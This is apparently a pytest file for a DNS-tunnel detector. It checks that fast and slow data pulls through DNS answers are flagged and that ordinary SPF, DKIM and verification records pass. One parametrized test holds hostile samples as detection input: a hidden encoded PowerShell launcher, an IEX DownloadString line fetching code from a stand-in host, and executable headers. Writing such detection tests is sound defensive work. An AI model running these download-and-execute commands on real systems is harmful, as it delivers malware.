import base64
import random
from collections.abc import Iterable

import pytest

from dnsguard.detect import tunnel, tunnel_answer
from dnsguard.detect.context import Context
from dnsguard.detect.memory import Memory
from dnsguard.detect.response import data_infiltration as det
from dnsguard.intel.snapshot import EMPTY
from dnsguard.model import Finding, Severity
from tests import judged, senders

DICE = random.Random(3)
START = senders.START


class Watched:
    """One worker's detectors over questions and answers."""

    def __init__(self, **config: object) -> None:
        self.context = Context(det.Config(**config), EMPTY, Memory())  # type: ignore[arg-type]

    def answer(self, name: str, *lines: str, time: float = START) -> Finding | None:
        subject = judged.response(name, *(f"{name}. 60 IN {line}" for line in lines), time=time)
        tunnel.count(subject.query, self.context)
        cued = tunnel_answer.NearAnswer(self.context).wakes(subject)
        finding = det.inspect(subject, self.context)
        assert cued or finding is None
        return finding

    def first(self, answers: Iterable[senders.Pulled]) -> tuple[int, int] | None:
        """Answers and bytes that came in before the first that is found."""
        came = 0
        for i, (name, time, line, size) in enumerate(answers):
            if self.answer(name, line, time=time) is not None:
                return i, came
            came += size
        return None


@pytest.mark.parametrize("kind", ["TXT", "CNAME", "MX", "SRV"])
def test_a_fast_pull_is_cut_within_a_kilobyte(kind: str) -> None:
    found = Watched().first(senders.pull(kind, 1000.0, seconds=60))
    assert found is not None
    assert found[0] < 10
    assert found[1] <= 512


@pytest.mark.parametrize(("kind", "size"), [("A", 4), ("AAAA", 16), ("TXT", 60), ("CNAME", 30)])
@pytest.mark.parametrize(("rate", "within"), [(1.0, 600.0), (0.05, 86400.0)])
def test_a_slow_pull_is_found(kind: str, size: int, rate: float, within: float) -> None:
    found = Watched().first(senders.pull(kind, rate, size=size))
    assert found is not None
    assert found[1] / rate <= within


@pytest.mark.parametrize(
    "text",
    [
        "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA",
        "1:H4sIAAAAAAAAA+3BMQEAAADCoPVPbQ0PoAAA",
        "powershell -nop -w hidden -enc SQBFAFgA",
        "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
        "#!/bin/sh",
        "4d5a90000300000004000000ffff0000",
    ],
)
def test_programs_and_scripts_are_found_at_once(text: str) -> None:
    finding = Watched().answer("stage.s.example", f'TXT "{text}"')
    assert finding is not None
    assert finding.severity is Severity.HIGH
    assert finding.evidence["found"]


HONEST = (
    "v=spf1 include:_spf.google.com include:spf.protection.outlook.com ip4:203.0.113.0/24 -all",
    "v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDwIRP/UC3SBsEmGqZ9ZJW3/DkMoGeLnQg1fWn7/zYtIxN2SnFCjxOC",
    "v=DMARC1; p=reject; rua=mailto:dmarc@shop.example; pct=100",
    "google-site-verification=rXOxyZounnZasA8Z7oaD3c14JdjS9aKSWvsR1EbUSIQ",
    "MS=ms71454350",
    "facebook-domain-verification=22rm551cu4k0ab0bxsw536tlds4h95",
    "docusign=05958488-4752-4ef2-95eb-aa7ba8a3bd0e",
    "apple-domain-verification=30afIBcvSuDV2PLX",
    "23028 | 216.90.108.0/24 | US | arin | 1998-09-25",
    "https://www.spamhaus.org/query/ip/127.0.0.2",
    "v=STSv1; id=20190425085700",
)


def test_honest_txt_records_are_silent() -> None:
    watched = Watched()
    for i, text in enumerate(HONEST * 4):
        assert watched.answer(f"_h{i}.shop.example", f'TXT "{text}"', time=START + i / 10) is None


def test_honest_addresses_and_aliases_are_silent() -> None:
    watched = Watched()
    for i in range(200):
        name = f"host-{i}.shop.example"
        assert watched.answer(name, f"A 203.0.113.{i}", time=START + i) is None
        target = f"CNAME d{i:03x}xyz.cloudfront.net."
        assert watched.answer(f"img-{i}.shop.example", target, time=START + i) is None


def test_an_apex_full_of_unknown_tokens_is_no_tunnel() -> None:
    lines = [f'TXT "{base64.b64encode(DICE.randbytes(45)).decode()}"' for _ in range(10)]
    assert Watched().answer("shop.example", *lines) is None


def test_the_same_answer_again_carries_nothing() -> None:
    watched = Watched()
    for i in range(500):
        assert watched.answer("x.shop.example", 'TXT "' + "ab3/" * 30 + '"', time=START + i) is None


@pytest.mark.parametrize("config", [{"burst": 63}, {"minutes": 1}, {"hour": 127}, {"day": 1}, {"names": 0}])
def test_config_errors_name_their_key(config: dict[str, int]) -> None:
    with pytest.raises(ValueError, match=next(iter(config))):
        det.Config(**config)  # type: ignore[arg-type]
